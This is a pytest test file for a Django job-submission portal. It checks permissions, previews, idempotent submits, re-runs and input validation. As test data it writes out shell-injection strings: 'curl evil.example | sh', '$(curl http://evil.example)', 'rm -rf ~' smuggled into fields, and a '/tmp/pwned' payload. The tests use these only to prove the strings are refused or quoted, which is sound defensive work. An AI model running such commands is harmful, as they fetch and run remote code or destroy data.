"""The submission pages through Django's test client: who sees them, the generated form, the preview, the one and only
submission a confirm makes, and bad input of every kind, refused in plain words or quoted so that it stays data."""

import html
import re
import shlex
import uuid

import pytest
from django.urls import reverse

from batchsync import submit
from batchsync.accounts import default_account
from batchsync.gateway import BatchGateway, PoolSpec
from batchsync.sync import sync_account
from portal.models import JobTemplate, JobTemplateVersion, Submission, SubmissionState
from portal.pagination import keyset_page
from portal.submit import limits, render, services
from portal.submit.selectors import SUBMISSION_SORT
from portal.submit.services import SubmissionError
from portal.submit.values import InputFile
from tests.batchsync.test_sync import UBUNTU
from tests.factories import JobFactory
from tests.localbatch.helpers import wait_for
from tests.portal.pages import text
from tests.portal.submit_helpers import form_values, use_azurite

pytestmark = pytest.mark.django_db

# Every parameter type in one template, each value landing on the command line, so the argv can be checked exactly.
ALL_TYPES_SPEC = {
    "pool": {"pool_id": "demo-pool"},
    "command_line": "printf '%s\\n' {text} {count} {ratio} {mode} {verbose} done",
    "parameters": [
        {"name": "text", "type": "string", "label": "Text", "max_length": 200_000},
        {"name": "count", "type": "integer", "label": "Count", "default": 1, "min": 0, "max": 100},
        {"name": "ratio", "type": "number", "label": "Ratio", "default": 0.5},
        {"name": "mode", "type": "choice", "label": "Mode", "choices": ["fast", "slow"], "default": "fast"},
        {"name": "verbose", "type": "boolean", "label": "Verbose", "flag": "--verbose"},
    ],
}


@pytest.fixture
def storage(azurite, settings):
    return use_azurite(azurite, settings)


@pytest.fixture
def all_types():
    template = JobTemplate.objects.create(name="Every type", slug="every-type")
    JobTemplateVersion.objects.create(template=template, number=1, spec=ALL_TYPES_SPEC)
    return template


@pytest.fixture
def batch_gateway(localbatch, storage, settings, monkeypatch):
    """localbatch as the portal's Batch account, with the examples' pool running a node; Azurite as its storage
    (tasks save their stdout and stderr there when they end)."""
    settings.BATCH_ACCOUNT_URL = localbatch.endpoint
    settings.BATCH_ACCOUNT_NAME = localbatch.account_name
    settings.BATCH_ACCOUNT_KEY = localbatch.account_key
    monkeypatch.delenv("BATCH_ACCOUNT_KEY", raising=False)
    with BatchGateway(localbatch.endpoint, localbatch.account_name, localbatch.account_key) as gateway:
        gateway.create_pool(PoolSpec(id="demo-pool", vm_size="standard_d2s_v3", image=UBUNTU,
                                     target_dedicated_nodes=1))
        wait_for(lambda: [n.state for n in gateway.list_nodes("demo-pool")] == ["idle"], timeout=30,
                 message="an idle node")
        yield gateway


def version_of(slug):
    return JobTemplate.objects.get(slug=slug).current_version()


def preview(client, slug, **values):
    data = {"template_version": version_of(slug).pk, **values}
    return client.post(reverse("submit_form", args=[slug]), data)


def confirm(client, slug, preview_response, **extra):
    return client.post(reverse("submit_confirm", args=[slug]), {**form_values(preview_response), "submit": "1",
                                                                 **extra})


# --- who sees what ----------------------------------------------------------------------------------------


def test_a_submitter_sees_the_active_templates_with_what_they_run_on(signed_in):
    JobTemplate.objects.filter(slug="render-frames").update(is_active=False)

    page = text(signed_in.get(reverse("submit_template_list")))

    assert "Count words in each text file" in page and "Run a Python script with parameters" in page
    assert "Render frames" not in page
    assert "pool demo-pool" in page and "one task per file in “Text files”" in page
    assert 'href="/submit/"' in page and "Submit work</a>" in page, "the navigation links here"


@pytest.mark.parametrize("name", ["submit_template_list", "submission_list"])
def test_a_viewer_is_refused_and_sees_no_submit_link(client, viewer, name):
    client.force_login(viewer)

    assert client.get(reverse(name)).status_code == 403
    assert client.get(reverse("submit_form", args=["count-words"])).status_code == 403
    assert "Submit work" not in client.get(reverse("job_list")).content.decode()


def test_anonymous_people_are_sent_to_log_in(client):
    for url in (reverse("submit_template_list"), reverse("submit_form", args=["count-words"]),
                reverse("submission_list")):
        response = client.get(url)
        assert response.status_code == 302 and "/login/" in response["Location"]
    assert client.post(reverse("submit_upload", args=["count-words"]), {}).status_code == 302


def test_an_inactive_or_unknown_template_is_not_found(signed_in):
    JobTemplate.objects.filter(slug="render-frames").update(is_active=False)

    assert signed_in.get(reverse("submit_form", args=["render-frames"])).status_code == 404
    assert signed_in.get(reverse("submit_form", args=["nope"])).status_code == 404


# --- the form ---------------------------------------------------------------------------------------------


def test_the_form_tells_the_browser_what_to_check(signed_in):
    page = text(signed_in.get(reverse("submit_form", args=["python-script"])))

    assert f'name="template_version" value="{version_of("python-script").pk}"' in page
    assert 'name="count"' in page and 'min="1"' in page and 'max="1000"' in page and 'step="1"' in page
    assert 'maxlength="100"' in page and 'value="run"' in page
    assert '<option value="fast" selected>fast</option>' in page and "thorough" in page
    assert "How many lines the script prints." in page
    assert page.count(" required") >= 3
    assert 'name="command_line"' not in page, "only engineers see the command line"
    assert "<script" not in page.replace('<script src="', ""), "no inline script"


def test_a_file_field_accepts_only_the_templates_kinds_and_posts_no_bytes(signed_in):
    page = text(signed_in.get(reverse("submit_form", args=["count-words"])))

    assert 'accept=".txt,.md,.csv"' in page and " multiple" in page
    assert 'data-max-files="100"' in page and 'data-max-bytes="100000000"' in page
    assert '<input type="file" id="file-texts"' in page and 'name="texts"' not in page
    assert "/static/js/upload.js" in page


def test_an_engineer_may_write_the_command_line(client, engineer):
    client.force_login(engineer)

    page = text(client.get(reverse("submit_form", args=["render-frames"])))

    assert 'name="command_line"' in page and "echo rendering frame {frame}" in page


# --- preview and submit -----------------------------------------------------------------------------------


def test_the_preview_says_what_will_be_created_and_writes_nothing(signed_in):
    page = text(preview(signed_in, "render-frames", frames="240", seconds_per_frame="0.5"))

    assert "This creates 240 tasks on pool demo-pool." in page
    assert "t00001" in page and "t00005" in page and "t00006" not in page and "235 more" in page
    assert "<code class=\"command\">echo rendering frame 1; sleep 0.5; echo frame 1 done</code>" in page
    assert "Each command line runs in <span class=\"mono\">/bin/sh</span>." in page
    assert not Submission.objects.exists()


def test_a_whole_number_is_shown_and_sent_as_typed_not_as_a_float(signed_in):
    shown = preview(signed_in, "render-frames", frames="2", seconds_per_frame="35")
    page = text(shown)

    assert "35.0" not in page
    assert "<dt>Seconds per frame</dt><dd class=\"value\">35</dd>" in page and "sleep 35;" in page
    confirm(signed_in, "render-frames", shown)
    submission = Submission.objects.get()
    assert submission.parameters["seconds_per_frame"] == 35
    detail = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))
    assert "35.0" not in detail
    # A fraction stays one.
    assert "sleep 2.5;" in text(preview(signed_in, "render-frames", frames="2", seconds_per_frame="2.5"))


def test_submit_makes_one_submission_and_a_second_post_returns_it(signed_in, user,
                                                                  django_capture_on_commit_callbacks):
    shown = preview(signed_in, "render-frames", frames="3", seconds_per_frame="0")

    with django_capture_on_commit_callbacks() as callbacks:
        first = confirm(signed_in, "render-frames", shown)
        again = confirm(signed_in, "render-frames", shown)

    submission = Submission.objects.get()
    assert first.status_code == again.status_code == 302
    assert first["Location"] == again["Location"] == reverse("submission_detail", args=[submission.public_id])
    assert len(callbacks) == 1, "enqueued once"
    assert (submission.submitted_by, submission.total_tasks, submission.parameters) == (
        user, 3, {"frames": 3, "seconds_per_frame": 0.0})


def test_submit_records_the_submitters_team_within_a_query_budget(client, submitter, team_a,
                                                                   django_assert_max_num_queries):
    client.force_login(submitter)
    default_account()   # made on first use: a running portal has it
    shown = preview(client, "render-frames", frames="3", seconds_per_frame="0")

    # The team and the account are looked up once each, though the approval check and the row both use them.
    with django_assert_max_num_queries(19):
        response = confirm(client, "render-frames", shown)

    assert response.status_code == 302
    assert (Submission.objects.get().team, Submission.objects.get().submitted_by) == (team_a, submitter)


def test_a_version_with_an_id_prefix_batch_would_refuse_is_stopped_at_the_preview_naming_the_field(signed_in):
    # Saved before ids were checked (the admin now refuses it): the preview says what to fix, and writes nothing.
    template = JobTemplate.objects.get(slug="render-frames")
    version = template.current_version()
    JobTemplateVersion.objects.create(template=template, number=version.number + 1, spec={
        **version.spec, "pool": {"auto_pool": {
            "vm_size": "standard_d2s_v3", "node_count": 1, "id_prefix": "render-frames-on-its-own-pool",
            "image": {"publisher": "canonical", "offer": "ubuntu", "sku": "22_04-lts",
                      "node_agent_sku_id": "batch.node.ubuntu 22.04"}}}})

    page = html.unescape(text(preview(signed_in, "render-frames", frames="3", seconds_per_frame="0")))

    assert "cannot be submitted as it stands: pool.auto_pool.id_prefix: the auto pool's id prefix" in page
    assert "is 29 characters; Batch allows 1 to 20 letters, digits, hyphens and underscores." in page
    assert "This creates" not in page and not Submission.objects.exists()


def test_change_values_goes_back_to_the_form_with_the_values_kept(signed_in):
    shown = preview(signed_in, "python-script", count="7", mode="thorough", label="mine")

    page = text(signed_in.post(reverse("submit_confirm", args=["python-script"]),
                              {**form_values(shown), "edit": "1"}))

    assert 'value="7"' in page and 'value="mine"' in page and '<option value="thorough" selected>' in page
    assert not Submission.objects.exists()


def test_a_tampered_preview_is_refused_and_nothing_is_written(signed_in):
    shown = preview(signed_in, "render-frames", frames="3")
    values = form_values(shown)
    payload = values["payload"]
    tampered = payload[:10] + ("A" if payload[10] != "A" else "B") + payload[11:]

    response = signed_in.post(reverse("submit_confirm", args=["render-frames"]), {"payload": tampered, "submit": 1},
                             follow=True)

    assert "That preview could not be used" in text(response)
    assert not Submission.objects.exists()


def test_someone_elses_preview_cannot_be_submitted(signed_in, client, other_submitter):
    shown = preview(signed_in, "render-frames", frames="3")
    client.force_login(other_submitter)

    response = client.post(reverse("submit_confirm", args=["render-frames"]), {**form_values(shown), "submit": 1},
                           follow=True)

    assert "That preview could not be used" in text(response) and not Submission.objects.exists()


@pytest.mark.parametrize("tampered", ["999999", "1 OR 1=1", "", "other-template"])
def test_a_tampered_template_version_is_a_clear_error_and_nothing_is_written(signed_in, tampered):
    if tampered == "other-template":
        tampered = version_of("python-script").pk

    page = text(signed_in.post(reverse("submit_form", args=["render-frames"]),
                              {"template_version": tampered, "frames": "3"}))

    assert "not offered any more, or the form was changed; nothing was submitted" in page
    assert "This creates" not in page and not Submission.objects.exists()


def test_an_outdated_template_version_is_a_clear_error(signed_in):
    old = version_of("render-frames")
    JobTemplateVersion.objects.create(template=old.template, number=2, spec=old.spec)

    page = text(signed_in.post(reverse("submit_form", args=["render-frames"]),
                              {"template_version": old.pk, "frames": "3"}))

    assert "has changed since the form was opened; nothing was submitted" in page
    assert not Submission.objects.exists()


def test_a_command_line_posted_by_someone_who_may_not_write_one_is_refused(signed_in):
    response = preview(signed_in, "render-frames", frames="3", command_line="curl evil.example | sh")

    assert response.status_code == 403 and not Submission.objects.exists()


def test_an_engineers_command_line_is_used(client, engineer):
    client.force_login(engineer)

    shown = preview(client, "render-frames", frames="2", seconds_per_frame="0", command_line="echo only {frame}")
    confirm(client, "render-frames", shown)

    submission = Submission.objects.get()
    assert submission.command_line == "echo only {frame}"
    assert [task.command_line for task in submit.expand(submission)] == ["/bin/sh -c 'echo only 1'",
                                                                         "/bin/sh -c 'echo only 2'"]


# --- bad input ----------------------------------------------------------------------------------------------

INJECTIONS = ["; rm -rf ~", "$(curl http://evil.example)", "`id`", "a && b | c", "it's \"quoted\"",
              "%COMSPEC% > /dev/null", "-rf", "x" * 8_000]  # longer is refused at the preview (test_submit_limits)


@pytest.mark.parametrize("value", INJECTIONS)
def test_a_string_stays_one_argument_whatever_it_holds(signed_in, all_types, value):
    shown = preview(signed_in, "every-type", text=value, count="3", ratio="2.5", mode="slow", verbose="on")
    assert "This creates 1 task" in text(shown)
    confirm(signed_in, "every-type", shown)

    task = next(submit.expand(Submission.objects.get()))
    argv = shlex.split(task.command_line)
    assert argv[:2] == ["/bin/sh", "-c"] and len(argv) == 3
    # What the shell runs: printf with each value as exactly one word, the string exactly as typed.
    assert shlex.split(argv[2]) == ["printf", "%s\\n", value, "3", "2.5", "slow", "--verbose", "done"]


def test_a_value_batch_would_refuse_is_said_at_the_preview_beside_its_field(signed_in, all_types):
    response = preview(signed_in, "every-type", text="x" * 100_000, count="3", ratio="2.5", mode="slow")

    page = text(response)
    assert "Batch would refuse these tasks; nothing was submitted." in page
    assert "command line is 100,0" in page and "at most 8,192" in page
    assert "This creates" not in page and not Submission.objects.exists()


@pytest.mark.parametrize("field, value, words", [
    ("text", "line one\nline two", "line breaks, tabs and other control characters are not allowed"),
    ("text", "nul\x00", "control characters are not allowed"),
    ("text", "x" * 200_001, "at most 200,000 characters"),
    ("count", "3; rm -rf ~", "give a whole number"),
    ("count", "$(id)", "give a whole number"),
    ("count", "101", "at most 100"),
    ("ratio", "`id`", "give a number"),
    ("ratio", "1e999", "finite"),
    ("mode", "fast; id", "choose one of: fast, slow"),
    ("mode", "fast\nid", "choose one of"),
])
def test_a_value_that_does_not_fit_is_shown_next_to_its_field_and_nothing_is_written(signed_in, all_types, field,
                                                                                      value, words):
    page = text(preview(signed_in, "every-type", **{"text": "ok", "count": "1", "ratio": "1", "mode": "fast",
                                                   field: value}))

    assert words.lower() in page.replace("&#x27;", "'").lower()
    assert "Some values need fixing; nothing was submitted." in page
    assert "This creates" not in page and not Submission.objects.exists()


def test_the_preview_shows_the_script_with_each_value_quoted_once_while_batch_gets_it_quoted_whole(signed_in,
                                                                                                    all_types):
    shown = preview(signed_in, "every-type", text="Zoë", count="3", ratio="2.5", mode="slow", verbose="on")
    page = html.unescape(text(shown))
    confirm(signed_in, "every-type", shown)

    script = re.search(r'<code class="command">(.*?)</code>', page, re.DOTALL).group(1)
    assert "'Zoë'" in script and "'\"'\"'" not in page
    # What Batch gets runs exactly that script under /bin/sh.
    command = next(submit.expand(Submission.objects.get())).command_line
    assert shlex.split(command) == ["/bin/sh", "-c", script]


@pytest.mark.parametrize("value", INJECTIONS)
def test_shell_script_takes_off_exactly_the_layer_shell_command_adds(value):
    script = f"printf %s {shlex.quote(value)}"
    assert render.shell_script(render.shell_command(script)) == script
    assert render.shell_script(script) is None and render.shell_script("/bin/sh -c 'a' b") is None


def test_a_boolean_cannot_smuggle_a_value(signed_in, all_types):
    shown = preview(signed_in, "every-type", text="ok", verbose="true; rm -rf ~")
    confirm(signed_in, "every-type", shown)

    script = shlex.split(next(submit.expand(Submission.objects.get())).command_line)[2]
    assert shlex.split(script) == ["printf", "%s\\n", "ok", "1", "0.5", "fast", "--verbose", "done"]


def test_quoted_values_run_as_data_on_localbatch(signed_in, all_types, batch_gateway):
    """The proof that counts: the task really runs under /bin/sh, and prints every value exactly as typed."""
    text_value = "it's $(touch /tmp/pwned) `id`; echo \"owned\" && exit 3 | cat > /tmp/x"
    shown = preview(signed_in, "every-type", text=text_value, count="7", ratio="-1.5", mode="slow", verbose="on")
    confirm(signed_in, "every-type", shown)
    submission = Submission.objects.get()

    assert submit.submit_submission(submission.pk) == SubmissionState.SUBMITTED
    wait_for(lambda: batch_gateway.get_job(submission.job_id).state == "completed", timeout=60,
             message="the job to end")
    [task] = batch_gateway.list_tasks(submission.job_id)
    assert task.exit_code == 0
    stdout = batch_gateway.read_task_file(submission.job_id, task.id, "stdout.txt").decode()
    assert stdout == f"{text_value}\n7\n-1.5\nslow\n--verbose\ndone\n"


# --- re-run ---------------------------------------------------------------------------------------------------


def test_a_rerun_starts_from_the_earlier_values_and_records_its_parent(signed_in):
    confirm(signed_in, "python-script", preview(signed_in, "python-script", count="9", mode="thorough", label="first"))
    parent = Submission.objects.get()

    page = text(signed_in.get(reverse("submit_form", args=["python-script"]) + f"?rerun={parent.public_id}"))
    assert 'value="9"' in page and 'value="first"' in page and f'value="{parent.public_id}"' in page

    shown = preview(signed_in, "python-script", count="9", mode="thorough", label="second", rerun=parent.public_id)
    confirm(signed_in, "python-script", shown)
    child = Submission.objects.exclude(pk=parent.pk).get()
    assert child.parent == parent and child.parameters["label"] == "second"


def test_someone_elses_submission_cannot_be_rerun(signed_in, client, other_submitter):
    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="2"))
    parent = Submission.objects.get()
    client.force_login(other_submitter)
    url = reverse("submit_form", args=["render-frames"])

    assert client.get(f"{url}?rerun={parent.public_id}").status_code == 404
    assert client.get(f"{url}?rerun=not-a-uuid").status_code == 404
    assert client.post(url, {"template_version": version_of("render-frames").pk, "frames": "2",
                             "rerun": parent.public_id}).status_code == 404
    assert Submission.objects.count() == 1


# --- following a submission ---------------------------------------------------------------------------------


def test_my_submissions_newest_first_and_only_mine(signed_in, client, other_submitter):
    for frames in ("1", "2", "3"):
        confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames=frames))
    client.force_login(other_submitter)
    confirm(client, "render-frames", preview(client, "render-frames", frames="4"))
    client.force_login(Submission.objects.filter(total_tasks=1).get().submitted_by)

    page = text(client.get(reverse("submission_list")))

    assert page.count("0 / 3") == 1 and page.count("0 / 4") == 0
    assert page.index("0 / 3") < page.index("0 / 2") < page.index("0 / 1")


def test_the_detail_page_shows_progress_and_polls_until_final(signed_in):
    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="10000"))
    submission = Submission.objects.get()
    Submission.objects.filter(pk=submission.pk).update(state=SubmissionState.ADDING_TASKS, tasks_added=6200)
    url = reverse("submission_detail", args=[submission.public_id])

    page = text(signed_in.get(url))
    assert "6,200 / 10,000 tasks added" in page and 'hx-trigger="every 1s"' in page

    partial = text(signed_in.get(url, headers={"HX-Request": "true", "HX-Target": "submission-status"}))
    assert "6,200 / 10,000 tasks added" in partial and "<html" not in partial

    Submission.objects.filter(pk=submission.pk).update(
        state=SubmissionState.FAILED, error_message="Task t00042 is too large for Batch: one task may be at most "
                                                    "1 MB.")
    page = text(signed_in.get(url))
    assert "Task t00042 is too large for Batch: one task may be at most 1 MB." in page
    assert "hx-trigger" not in page, "a failed submission no longer changes"


def test_the_detail_page_links_the_job_with_its_progress(signed_in):
    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="3"))
    submission = Submission.objects.get()
    Submission.objects.filter(pk=submission.pk).update(state=SubmissionState.SUBMITTED, tasks_added=3)
    job = JobFactory(account=submission.account, job_id=submission.job_id, state="completed", task_completed=3,
                     task_succeeded=3)

    page = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))

    assert f'href="{reverse("job_detail", args=[job.pk])}"' in page and "Completed 3/3 · 3 succeeded" in page
    assert "<dt>Frames</dt>" in page and "<dt>Seconds per frame</dt>" in page, "values under the form's labels"
    assert "hx-trigger" not in page, "nothing left to change"

    job.state, job.task_completed, job.task_succeeded, job.task_running = "active", 1, 1, 2
    job.save()
    page = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))
    assert 'hx-trigger="every 2s"' in page and "Active 1/3 · 1 succeeded" in page, "followed while the job runs"


def test_someone_elses_submission_is_not_found(signed_in, client, other_submitter):
    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="2"))
    submission = Submission.objects.get()
    client.force_login(other_submitter)

    assert client.get(reverse("submission_detail", args=[submission.public_id])).status_code == 404
    assert client.get(reverse("submission_detail", args=[uuid.uuid4()])).status_code == 404


def test_an_operator_of_the_team_may_follow_it(signed_in, user, client, team_a, operator_a):
    user.teams.add(team_a)
    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="2"))
    client.force_login(operator_a)

    assert client.get(reverse("submission_detail", args=[Submission.objects.get().public_id])).status_code == 200


def test_an_idempotency_key_returns_its_submission_and_no_one_elses(user, other_submitter):
    key = uuid.uuid4()
    first = services.submission_create(user=user, template_version=version_of("render-frames"),
                                       parameters={"frames": "2"}, public_id=key)
    again = services.submission_create(user=user, template_version=version_of("render-frames"),
                                       parameters={"frames": "9"}, public_id=key)

    assert again.pk == first.pk and first.public_id == key and Submission.objects.count() == 1
    with pytest.raises(SubmissionError, match="cannot be submitted again"):
        services.submission_create(user=other_submitter, template_version=version_of("render-frames"),
                                   parameters={"frames": "2"}, public_id=key)
    assert Submission.objects.count() == 1


def test_my_submissions_page_by_page_without_counting(signed_in, user):
    for frames in range(1, 4):
        confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames=str(frames)))
    url = reverse("submission_list")
    first = text(signed_in.get(url))
    assert 'rel="next"' not in first, "all three fit one page"

    page = keyset_page(Submission.objects.filter(submitted_by=user), sort=SUBMISSION_SORT, tiebreak="id", size=2)
    assert [s.total_tasks for s in page.items] == [3, 2] and page.has_next
    partial = text(signed_in.get(url, {"after": page.next_cursor},
                                headers={"HX-Request": "true", "HX-Target": "submissions"}))
    assert "<html" not in partial and 'id="submissions"' in partial
    assert "0 / 1" in partial and "0 / 2" not in partial and "0 / 3" not in partial


def test_inputs_kept_as_urls_by_older_submissions_still_expand(user):
    submission = services.submission_create(
        user=user, template_version=version_of("count-words"), parameters={},
        uploaded_files={"texts": [InputFile(name="a.txt", url="https://blob.example/in/a.txt?sv=x&sig=y", size=3)]})

    assert submission.inputs == {"texts": [{"name": "a.txt", "url": "https://blob.example/in/a.txt?sv=x&sig=y",
                                            "size": 3}]}
    [task] = list(submit.expand(submission))
    assert [(f.http_url, f.file_path) for f in task.resource_files] == [
        ("https://blob.example/in/a.txt?sv=x&sig=y", "inputs/a.txt")]


def test_batchs_refusal_of_a_task_over_1_mb_reaches_the_page_in_plain_words(signed_in, all_types, localbatch,
                                                                            settings, monkeypatch):
    settings.BATCH_ACCOUNT_URL = localbatch.endpoint
    settings.BATCH_ACCOUNT_NAME = localbatch.account_name
    settings.BATCH_ACCOUNT_KEY = localbatch.account_key
    monkeypatch.delenv("BATCH_ACCOUNT_KEY", raising=False)
    with BatchGateway(localbatch.endpoint, localbatch.account_name, localbatch.account_key) as gateway:
        gateway.create_pool(PoolSpec(id="demo-pool", vm_size="standard_d2s_v3", image=UBUNTU))
    version = all_types.current_version()
    JobTemplateVersion.objects.create(template=all_types, number=2, spec={
        **version.spec, "parameters": [{**version.spec["parameters"][0], "max_length": 1_500_000},
                                       *version.spec["parameters"][1:]]})

    # The preview refuses such a task now (portal/submit/limits.py); Batch's own refusal is still read plainly for
    # what the preview cannot foresee, so that check is widened here.
    monkeypatch.setattr(limits, "COMMAND_LINE_MAX_CHARS", 10**9)
    monkeypatch.setattr(limits, "TASK_MAX_BYTES", 10**9)
    shown = preview(signed_in, "every-type", text="x" * 1_100_000)
    assert "This creates 1 task" in text(shown), "the portal itself allows it; Batch has the last word"
    confirm(signed_in, "every-type", shown)
    submission = Submission.objects.get()

    assert submit.submit_submission(submission.pk) == SubmissionState.FAILED
    page = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))
    assert "Task t00001 is too large for Batch: one task may be at most 1 MB" in page
    assert "Not submitted" in page
    # Its job, made and then stopped, is on the page from the start and polled until the sync has seen it end;
    # then nothing on the page can change any more.
    with BatchGateway(localbatch.endpoint, localbatch.account_name, localbatch.account_key) as gateway:
        wait_for(lambda: gateway.get_job(submission.job_id).state == "completed", message="the stopped job ended")
    sync_account(default_account())
    page = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))
    assert "Not submitted" in page and "hx-trigger" not in page


def test_a_reruns_preview_marks_what_changed(signed_in):
    confirm(signed_in, "python-script", preview(signed_in, "python-script", count="9", mode="thorough", label="first"))
    parent = Submission.objects.get()

    page = text(preview(signed_in, "python-script", count="9", mode="fast", label="first", rerun=parent.public_id))

    changed = re.findall(r'<div class="changed"><dt>([^<]+)</dt><dd class="value">([^<]+) <span class="chip">'
                         r'changed</span> <span class="muted small">was ([^<]+)</span>', page)
    assert changed == [("Mode", "fast", "thorough")]
